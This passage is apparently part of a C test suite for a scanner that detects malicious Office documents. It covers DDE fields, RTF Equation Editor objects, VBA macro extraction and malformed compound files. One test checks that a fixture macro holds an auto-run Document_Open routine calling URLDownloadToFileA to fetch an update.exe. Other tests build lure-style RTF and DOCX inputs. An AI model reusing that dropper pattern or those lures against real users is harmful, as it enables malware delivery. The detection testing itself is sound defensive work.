		struct moat_report *rep = one_doc("Letter.rtf", cases[i].rtf);

		lure_office_check(rep, conf);
		ck_assert_msg((report_has_finding(rep, "lure.dde_field") != NULL) == cases[i].dde,
		    "%s: lure.dde_field %s", cases[i].rtf, cases[i].dde ? "missing" : "found");
		report_free(rep);
	}
}
END_TEST

/*
 * A document.xml of 8 MB of instrText runs and fldChar marks costs about
 * 8 times one of 1 MB: one pass, at most OFFICETEXT_FIELD_MAX bytes of a
 * field kept. Its 1,000 fields are long in the larger one, not more
 * (under AddressSanitizer every memmem() checks all the bytes left).
 */
START_TEST(test_office_fields_long)
{
	gint64 us[2];

	for (int k = 0; k < 2; k++) {
		GString *xml = g_string_new("<w:document><w:body><w:p>");
		struct moat_report *rep;
		struct moat_part *pkg, *m;
		g_autoptr(GPtrArray) path = g_ptr_array_new();
		gint64 t0;

		for (int f = 0; f < 1000; f++) {
			gsize each = (k == 0 ? 1u << 20 : 8u << 20) / 1000, start;

			g_string_append(xml, "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r>"
			    "<w:instrText> PAGE ");
			for (start = xml->len; xml->len - start < each;)
				g_string_append(xml, "\\* MERGEFORMAT &amp; ");
			g_string_append(xml, "</w:instrText></w:r>");
		}
		g_string_append(xml, "</w:p></w:body></w:document>");
		rep = report_new();
		g_ptr_array_add(path, (char *)"Long.docx");
		pkg = report_part_new(rep, path);
		pkg->filename = g_strdup("Long.docx");
		pkg->sniffed = "zip";
		pkg->content = g_bytes_new_static("PK\003\004", 4);
		m = report_member_new(rep, pkg, "[Content_Types].xml");
		m->content = g_bytes_new_static("<Types/>", 8);
		m = report_member_new(rep, pkg, "word/document.xml");
		m->content = g_bytes_new_take(xml->str, xml->len);
		g_string_free(xml, FALSE);
		t0 = t_thread_us();
		lure_office_check(rep, conf);
		us[k] = t_thread_us() - t0;
		ck_assert_ptr_null(report_has_finding(rep, "lure.dde_field"));
		report_free(rep);
	}
	ck_assert_msg(us[1] < 16 * us[0] + 20000, "8 MB: %" G_GINT64_FORMAT " us, 1 MB: %"
	    G_GINT64_FORMAT " us", us[1], us[0]);
}
END_TEST

/* rtfobj.h: \objdata read as Word reads it --------------------------------------- */

/* ole1_hex - hex of an OLE1 EmbeddedObject of class CLS (its length field LEN_FIELD, 0: right) */
static char *
ole1_hex(const char *cls, guint32 len_field)
{
	GString *h = g_string_new(NULL);
	guint32 n = len_field != 0 ? len_field : (guint32)strlen(cls) + 1;
	guint8 head[12] = { 0x01, 0x05, 0, 0, 0x02, 0, 0, 0, n, n >> 8, n >> 16, n >> 24 };

	for (gsize i = 0; i < sizeof(head); i++)
		g_string_append_printf(h, "%02x", head[i]);
	for (gsize i = 0; i <= strlen(cls); i++)
		g_string_append_printf(h, "%02x", (guint8)cls[i]);
	g_string_append(h, "00000000" "00000000" "04000000" "deadbeef");
	return g_string_free(h, FALSE);
}

static const struct {
	const char *what, *before, *cls, *after;	/* the RTF: BEFORE, the hex of CLS, AFTER */
	gboolean found;
} rtfobj_cases[] = {
	{ "plain", "{\\object\\objemb{\\*\\objdata ", "Equation.3", "}}", TRUE },
	{ "class in other case, with blanks", "{\\object{\\*\\objdata \r\n ", "EQUATION.3", " \n}}",
	    TRUE },
	{ "Equation.2", "{\\object{\\*\\objdata ", "Equation.2", "}}", TRUE },
	{ "MathType", "{\\object{\\*\\objdata ", "Equation.DSMT4", "}}", FALSE },
	{ "Excel", "{\\object\\objupdate{\\*\\objdata ", "Excel.Sheet.8", "}}", FALSE },
	{ "escaped: text", "\\\\objdata ", "Equation.3", "", FALSE },
	{ "another word", "{\\object{\\*\\objdatax ", "Equation.3", "}}", FALSE },
	{ "no closing brace", "{\\object{\\*\\objdata ", "Equation.3", "", TRUE },
	{ "\\objclass with junk data", "{\\object{\\*\\objclass  equation.3 }{\\*\\objdata 0102}",
	    "", "}", TRUE },
	{ "\\objclass, no data", "{\\object{\\*\\objclass Equation.3}{\\*\\objdata }", "", "}",
	    FALSE },
	{ "\\objclass MathType", "{\\object{\\*\\objclass Equation.DSMT4}{\\*\\objdata 01}", "", "}",
	    FALSE },
};

/* rtf_doc - "{\rtf1 ... BEFORE HEX AFTER}", the hex of CLS (if not "") broken by GAP every 6 */
static char *
rtf_doc(const char *before, const char *cls, const char *after, const char *gap)
{
	g_autofree char *hex = *cls != '\0' ? ole1_hex(cls, 0) : g_strdup("");
	GString *s = g_string_new("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}\\pard Order\\par ");

	g_string_append(s, before);
	for (gsize i = 0; hex[i] != '\0'; i++) {
		if (gap != NULL && i > 0 && i % 6 == 0)
			g_string_append(s, gap);
		g_string_append_c(s, hex[i]);
	}
	g_string_append(s, after);
	g_string_append(s, "\\par}");
	return g_string_free(s, FALSE);
}

static void
rtfobj_expect(const char *what, const char *rtf, gboolean found)
{
	struct moat_report *rep = one_doc("Order.rtf", rtf);

	lure_office_check(rep, conf);
	ck_assert_msg((report_has_finding(rep, "lure.equation_editor") != NULL) == found,
	    "%s: lure.equation_editor %s", what, found ? "missing" : "found");
	report_free(rep);
}

START_TEST(test_rtfobj_cases)
{
	g_autofree char *rtf = rtf_doc(rtfobj_cases[_i].before, rtfobj_cases[_i].cls,
	    rtfobj_cases[_i].after, NULL);

	rtfobj_expect(rtfobj_cases[_i].what, rtf, rtfobj_cases[_i].found);
}
END_TEST

/*
 * What Word skips between hex digits is skipped: control words, blanks,
 * stray bytes, and a group nested in the destination whole (an odd digit
 * in it must not shift the pairs after it).
 */
START_TEST(test_rtfobj_broken_hex)
{
	static const char *const gaps[] = { " ", "\r\n", "\\par ", "{\\*\\jmp 4}", "{\\*\\a{\\b 1}2}",
	    "\\'", "zz", "\\u-3913 " };

	for (gsize i = 0; i < G_N_ELEMENTS(gaps); i++) {
		g_autofree char *rtf = rtf_doc("{\\object{\\*\\objdata ", "Equation.3", "}}", gaps[i]);

		rtfobj_expect(gaps[i], rtf, TRUE);
	}
}
END_TEST

/* \binN: N raw bytes, however many the document still has */
START_TEST(test_rtfobj_bin)
{
	static const guint8 head[] = { 0x01, 0x05, 0, 0, 0x02, 0, 0, 0, 11, 0, 0, 0 };
	GString *s = g_string_new("{\\rtf1{\\object{\\*\\objdata \\bin23 ");
	GString *cut;
	struct moat_report *rep;

	g_string_append_len(s, (const char *)head, sizeof(head));
	g_string_append_len(s, "Equation.3\0", 11);
	cut = g_string_new_len(s->str, (gssize)s->len);
	g_string_append(s, "}}}");
	rep = one_doc_len("Order.rtf", s->str, s->len);
	lure_office_check(rep, conf);
	t_finding(rep, "lure.equation_editor");
	report_free(rep);
	/* \bin99999 with 23 bytes left: what is there is read, nothing past the end */
	g_string_erase(cut, 0, strlen("{\\rtf1{\\object{\\*\\objdata \\bin23 "));
	g_string_prepend(cut, "{\\rtf1{\\object{\\*\\objdata \\bin99999 ");
	rep = one_doc_len("Order.rtf", cut->str, cut->len);
	lure_office_check(rep, conf);
	t_finding(rep, "lure.equation_editor");
	report_free(rep);
	g_string_free(s, TRUE);
	g_string_free(cut, TRUE);
}
END_TEST

/* A class name whose length field points past the data: no class, no read past the end */
START_TEST(test_rtfobj_bad_header)
{
	static const guint32 lens[] = { 0xffffffffu, 0x7fffffffu, 257, 4096 };

	for (gsize i = 0; i < G_N_ELEMENTS(lens); i++) {
		g_autofree char *hex = ole1_hex("Equation.3", lens[i]);
		g_autofree char *rtf = g_strdup_printf("{\\rtf1{\\object{\\*\\objdata %s}}}", hex);

		rtfobj_expect("length past the data", rtf, FALSE);
	}
}
END_TEST

/*
 * One pass: 16 objects of 4 MB of hex in all cost about 64 times what 16
 * of 64 KB do, not more. (The object count stays the same: under
 * AddressSanitizer every memmem() checks all the bytes left after it.)
 */
START_TEST(test_rtfobj_long)
{
	gint64 us[2];

	for (int k = 0; k < 2; k++) {
		GString *rtf = g_string_new("{\\rtf1");
		struct moat_report *rep;
		gsize each = (k == 0 ? 64u << 10 : 4u << 20) / 16;
		gint64 t0;

		for (int i = 0; i < 16; i++) {
			g_autofree char *hex = ole1_hex("Excel.Sheet.8", 0);

			g_string_append_printf(rtf, "{\\object{\\*\\objdata %s", hex);
			for (gsize n = strlen(hex); n < each; n += 8)
				g_string_append(rtf, "0a0b0c0d");
			g_string_append(rtf, "}}{\\*\\objclass Word}");
		}
		g_string_append_c(rtf, '}');
		rep = one_doc("Prices.rtf", rtf->str);
		g_string_free(rtf, TRUE);
		t0 = t_thread_us();
		lure_office_check(rep, conf);
		us[k] = t_thread_us() - t0;
		ck_assert_ptr_null(report_has_finding(rep, "lure.equation_editor"));
		report_free(rep);
	}
	ck_assert_msg(us[1] < 128 * us[0] + 50000, "4 MB: %" G_GINT64_FORMAT " us, 64 KB: %"
	    G_GINT64_FORMAT " us", us[1], us[0]);
}
END_TEST

/* vba.h ----------------------------------------------------------------------------- */

/* decompressed - vba_decompress() of the N bytes at IN as a string, *CLEAN set (caller g_free()s) */
static char *
decompressed(const guint8 *in, gsize n, gsize max, gboolean *clean)
{
	GByteArray *out = vba_decompress(in, n, max, clean);
	char *s;

	ck_assert_ptr_nonnull(out);
	ck_assert_uint_le(out->len, max);
	s = out->len > 0 ? g_strndup((const char *)out->data, out->len) : g_strdup("");
	g_byte_array_unref(out);
	return s;
}

/* MS-OVBA 2.4.1: literals, a copy token, a stored chunk; corrupt tokens stop it. */
START_TEST(test_vba_decompress)
{
	/* "abc" then a copy of 6 from 3 back: token (3-1) << 12 | (6-3), 4 offset bits at 3 */
	static const guint8 abc[] = { 0x01, 0x05, 0xb0, 0x08, 'a', 'b', 'c', 0x03, 0x20 };
	static const guint8 first[] = { 0x01, 0x02, 0xb0, 0x01, 0x03, 0x20 };	/* a copy at 0 */
	static const guint8 far[] = { 0x01, 0x05, 0xb0, 0x08, 'a', 'b', 'c', 0x03, 0x30 };	/* from 4 back */
	static const guint8 cut[] = { 0x01, 0x05, 0xb0, 0x08, 'a', 'b', 'c', 0x03 };
	guint8 stored[3 + 4096];
	gboolean clean = FALSE;
	char *s;
	GByteArray *out;

	s = decompressed(abc, sizeof(abc), 100, &clean);
	ck_assert_str_eq(s, "abcabcabc");
	ck_assert(clean);
	g_free(s);
	s = decompressed(abc, sizeof(abc), 5, &clean);	/* MAX stops it before the copy */
	ck_assert_str_eq(s, "abc");
	ck_assert(!clean);
	g_free(s);
	s = decompressed(first, sizeof(first), 100, &clean);
	ck_assert_str_eq(s, "");
	ck_assert(!clean);
	g_free(s);
	s = decompressed(far, sizeof(far), 100, &clean);
	ck_assert_str_eq(s, "abc");
	ck_assert(!clean);
	g_free(s);
	s = decompressed(cut, sizeof(cut), 100, &clean);
	ck_assert_str_eq(s, "abc");
	g_free(s);
	stored[0] = 0x01;
	stored[1] = 0xff;	/* size 4095 + 3, not compressed */
	stored[2] = 0x3f;
	for (guint i = 0; i < 4096; i++)
		stored[3 + i] = (guint8)('A' + i % 26);
	out = vba_decompress(stored, sizeof(stored), 1u << 20, &clean);
	ck_assert_uint_eq(out->len, 4096);
	ck_assert(clean);
	ck_assert_int_eq(memcmp(out->data, stored + 3, 4096), 0);
	g_byte_array_unref(out);
	ck_assert_ptr_null(vba_decompress(abc + 1, sizeof(abc) - 1, 100, NULL));
	ck_assert_ptr_null(vba_decompress(abc, 0, 100, NULL));
}
END_TEST

/* fixture - the raw fixture NAME (written beside its mail); caller g_byte_array_unref()s */
static GByteArray *
fixture(const char *name)
{
	g_autofree char *path = g_build_filename(LURES_DIR, name, NULL);
	gchar *data = NULL;
	gsize len = 0;

	ck_assert_msg(g_file_get_contents(path, &data, &len, NULL), "%s missing", path);
	return g_byte_array_new_take((guint8 *)data, len);
}

/* The .doc lures_office.py wrote: one project, its module's source as written. */
START_TEST(test_vba_read)
{
	GByteArray *doc = fixture("office-macro-dl.doc");
	struct vba_file *f = vba_read(doc->data, doc->len);
	const struct vba_module *m;

	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(f->projects, 1);
	ck_assert_str_eq(f->first, "Macros/VBA");
	ck_assert_uint_eq(f->modules->len, 2);
	ck_assert(!f->truncated);
	m = f->modules->pdata[1];
	ck_assert_str_eq(m->name, "Module1");
	ck_assert_str_eq(m->project, "Macros/VBA");
	ck_assert_ptr_nonnull(strstr(m->source, "Sub Document_Open()\r\n"));
	ck_assert_ptr_nonnull(strstr(m->source, "URLDownloadToFileA 0, \"http://198.51.100.23/files/"
	    "update.exe\", path, 0, 0\r\n"));
	ck_assert_uint_eq(m->len, strlen(m->source));
	vba_file_free(f);
	g_byte_array_unref(doc);

	doc = fixture("office-plain.doc");	/* a compound file, no project */
	f = vba_read(doc->data, doc->len);
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(f->projects, 0);
	ck_assert_uint_eq(f->modules->len, 0);
	vba_file_free(f);
	ck_assert_ptr_null(vba_read(doc->data, 511));
	ck_assert_ptr_null(vba_read((const guint8 *)"PK\003\004", 4));
	g_byte_array_unref(doc);
}
END_TEST

/* entry_at - the offset of directory entry NAME in compound file D (this writer's: one chain) */
static gsize
entry_at(const GByteArray *d, const char *name)
{
	gsize dir = ((gsize)bytes_le32(d->data + 48) + 1) * 512;

	for (gsize off = dir; off + 128 <= d->len; off += 128) {
		char got[32];
		guint n = MIN(bytes_le16(d->data + off + 64) / 2, 32);

		for (guint i = 0; i < n; i++)
			got[i] = (char)d->data[off + 2 * i];
		if (n > 0 && strncmp(got, name, n - 1) == 0 && name[n - 1] == '\0')
			return off;
	}
	ck_abort_msg("no entry %s", name);
	return 0;
}

/* read_mutant - vba_read() of D, which must end quickly whatever it finds */
static void
read_mutant(const GByteArray *d, const char *what)
{
	gint64 t0 = g_get_monotonic_time();
	struct vba_file *f = vba_read(d->data, d->len);

	for (guint i = 0; f != NULL && i < f->modules->len; i++) {
		const struct vba_module *m = f->modules->pdata[i];

		ck_assert_uint_le(m->len, VBA_MAX_SOURCE);
		ck_assert(m->source == NULL || m->source[m->len] == '\0');
	}
	vba_file_free(f);
	ck_assert_msg(g_get_monotonic_time() - t0 < 2 * G_USEC_PER_SEC, "%s: %.1f s", what,
	    (double)(g_get_monotonic_time() - t0) / G_USEC_PER_SEC);
}

/* put32 - the little-endian V at D's offset OFF */
static void
put32(GByteArray *d, gsize off, guint32 v)
{
	for (int i = 0; i < 4; i++)
		d->data[off + i] = (guint8)(v >> (8 * i));
}

/* Loops in the FAT, the DIFAT and the directory, shared chains, cut files, flipped bytes. */
START_TEST(test_vba_hostile)
{
	GByteArray *doc = fixture("office-macro-dl.doc"), *d;
	guint32 dirsec = bytes_le32(doc->data + 48), fat0 = bytes_le32(doc->data + 76);
	gsize fat = ((gsize)fat0 + 1) * 512, dir = ((gsize)dirsec + 1) * 512;
	gsize word = entry_at(doc, "WordDocument");
	GRand *rnd = g_rand_new_with_seed(15);

	d = g_byte_array_new();
#define MUTANT(what, ...) do { \
		g_byte_array_set_size(d, 0); \
		g_byte_array_append(d, doc->data, doc->len); \
		__VA_ARGS__; \
		read_mutant(d, what); \
	} while (0)
	MUTANT("directory chain loops", put32(d, fat + 4 * dirsec, dirsec));
	MUTANT("FAT sector count huge, DIFAT loops", put32(d, 44, 0xfffffff0u);
	    put32(d, 68, fat0); put32(d, 72, 0xffffffffu));
	MUTANT("sibling cycle", put32(d, entry_at(doc, "dir") + 72, 1);
	    put32(d, entry_at(doc, "1Table") + 72, (guint32)((entry_at(doc, "dir") - dir) / 128)));
	MUTANT("child is the root", put32(d, entry_at(doc, "VBA") + 76, 0));
	MUTANT("every stream on one long chain", for (gsize off = word; off + 128 <= d->len &&
	    off < word + 128 * 11; off += 128) {
		put32(d, off + 116, bytes_le32(doc->data + word + 116));
		put32(d, off + 120, 0x7fffffffu);
	});
	MUTANT("mini stream cutoff 0", put32(d, 56, 0));
	MUTANT("mini stream cutoff huge", put32(d, 56, 0xffffffffu));
	MUTANT("mini FAT loops", put32(d, 60, bytes_le32(doc->data + 60));
	    put32(d, fat + 4 * bytes_le32(doc->data + 60), bytes_le32(doc->data + 60)));
	MUTANT("sector size 4096", d->data[30] = 12);
	for (gsize cut = 0; cut < doc->len; cut += 97) {
		g_autofree char *what = g_strdup_printf("cut at %" G_GSIZE_FORMAT, cut);

		MUTANT(what, g_byte_array_set_size(d, cut));
	}
	for (int round = 0; round < 3000; round++) {
		g_autofree char *what = g_strdup_printf("flips, round %d", round);

		MUTANT(what, for (int k = g_rand_int_range(rnd, 1, 9); k > 0; k--)
		    d->data[g_rand_int_range(rnd, 0, (gint32)d->len)] ^= (guint8)g_rand_int_range(rnd, 1, 256));
	}
#undef MUTANT
	g_rand_free(rnd);
	g_byte_array_unref(d);
	g_byte_array_unref(doc);
}
END_TEST

/* entry - directory entry at OFF of D named NAME, of TYPE, its children at CHILD, next at RIGHT */
static void
entry(GByteArray *d, gsize off, const char *name, guint8 type, guint32 child, guint32 right)
{
	gsize n = strlen(name);

	for (gsize i = 0; i < n; i++)
		d->data[off + 2 * i] = (guint8)name[i];
	d->data[off + 64] = (guint8)(2 * (n + 1));
	d->data[off + 66] = type;
	d->data[off + 67] = 1;
	put32(d, off + 68, 0xffffffffu);
	put32(d, off + 72, right);
	put32(d, off + 76, child);
	put32(d, off + 116, 0xfffffffeu);	/* an empty stream */
}

/*
 * storages - a compound file of N storages P0, P1, ... each holding "dir"
 * and "_VBA_PROJECT" (N projects), each inside the one before (DEEP) or
 * side by side under the root. Caller g_byte_array_unref()s.
 */
static GByteArray *
storages(guint n, gboolean deep)
{
	guint nent = 1 + 3 * n, ndir = (nent * 128 + 511) / 512, nfat = (ndir + 126) / 127;
	gsize dir = 512 * (1 + (gsize)nfat);
	GByteArray *d = g_byte_array_new();

	g_byte_array_set_size(d, 512 * (1 + nfat + ndir));
	memset(d->data, 0, d->len);
	memcpy(d->data, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
	d->data[24] = 0x3e;
	d->data[26] = 3;
	d->data[28] = 0xfe;
	d->data[29] = 0xff;
	d->data[30] = 9;
	d->data[32] = 6;
	put32(d, 44, nfat);
	put32(d, 48, nfat);		/* the directory follows the FAT */
	put32(d, 56, 4096);
	put32(d, 60, 0xfffffffeu);
	put32(d, 68, 0xfffffffeu);
	for (guint i = 0; i < 109; i++)
		put32(d, 76 + 4 * i, i < nfat ? i : 0xffffffffu);
	for (guint s = 0; s < nfat * 128; s++)
		put32(d, 512 + 4 * (gsize)s, s < nfat ? 0xfffffffdu : s + 1 < nfat + ndir ? s + 1 :
		    s + 1 == nfat + ndir ? 0xfffffffeu : 0xffffffffu);
	entry(d, dir, "Root Entry", 5, 1, 0xffffffffu);
	for (guint i = 0; i < n; i++) {
		guint32 s = 1 + 3 * i, next = i + 1 < n ? s + 3 : 0xffffffffu;
		g_autofree char *name = g_strdup_printf("P%u", i);

		entry(d, dir + 128 * (gsize)s, name, 1, s + 1, deep ? 0xffffffffu : next);
		entry(d, dir + 128 * (gsize)(s + 1), "dir", 2, 0xffffffffu, s + 2);
		entry(d, dir + 128 * (gsize)(s + 2), "_VBA_PROJECT", 2, 0xffffffffu,
		    deep ? next : 0xffffffffu);
	}
	return d;
}

/*
 * 5,461 projects (16,384 entries), their storages each inside the one
 * before or side by side: a project's path is built only for the projects
 * read, so both cost about the same (building every path, 5,461 levels
 * deep at the end, took 2.4 s for a 2 MB file).
 */
START_TEST(test_vba_deep_storages)
{
	gint64 us[2];

	for (int deep = 0; deep < 2; deep++) {
		GByteArray *d = storages(5461, deep);
		gint64 t0 = t_thread_us();
		struct vba_file *f = vba_read(d->data, d->len);

		us[deep] = t_thread_us() - t0;
		ck_assert_ptr_nonnull(f);
		ck_assert_uint_eq(f->projects, 5461);
		ck_assert_str_eq(f->first, "P0");
		ck_assert(f->truncated);
		vba_file_free(f);
		g_byte_array_unref(d);
	}
	ck_assert_msg(us[1] < 8 * us[0] + 20000, "nested: %" G_GINT64_FORMAT " us, side by side: %"
	    G_GINT64_FORMAT " us", us[1], us[0]);
}
END_TEST

Suite *
office_suite(void)
{
	Suite *s = suite_create("office");
	TCase *built = tcase_create("fixtures");
	TCase *made = tcase_create("made");
	TCase *vba = tcase_create("vba");

	tcase_add_unchecked_fixture(built, office_setup, office_teardown);
	tcase_set_timeout(built, 60);
	tcase_add_loop_test(built, test_office_evidence, 0, G_N_ELEMENTS(office_evidence));
	tcase_add_loop_test(built, test_office_tagged, 0, G_N_ELEMENTS(office_tagged));
	tcase_add_loop_test(built, test_office_benign, 0, G_N_ELEMENTS(office_benign));
	tcase_add_test(built, test_office_unkept);
	suite_add_tcase(s, built);
	tcase_set_timeout(made, 60);	/* the XML floods under a sanitizer */
	tcase_add_loop_test(made, test_office_targets, 0, G_N_ELEMENTS(office_targets));
	tcase_add_loop_test(made, test_office_rtf, 0, G_N_ELEMENTS(office_rtfs));
	tcase_add_test(made, test_office_xml_hostile);
	tcase_add_test(made, test_office_xml_memory);
	tcase_add_test(made, test_office_rtf_long);
	tcase_add_test(made, test_office_many_rels);
	tcase_add_loop_test(made, test_rtfobj_cases, 0, G_N_ELEMENTS(rtfobj_cases));
	tcase_add_test(made, test_rtfobj_broken_hex);
	tcase_add_test(made, test_office_rtf_dde);
	tcase_add_test(made, test_office_fields_long);
	tcase_add_test(made, test_rtfobj_bin);
	tcase_add_test(made, test_rtfobj_bad_header);
	tcase_add_test(made, test_rtfobj_long);
	suite_add_tcase(s, made);
	tcase_set_timeout(vba, 60);
	tcase_add_test(vba, test_vba_decompress);
	tcase_add_test(vba, test_vba_read);
	tcase_add_test(vba, test_vba_hostile);
	tcase_add_test(vba, test_vba_deep_storages);
	suite_add_tcase(s, vba);
	return s;
}
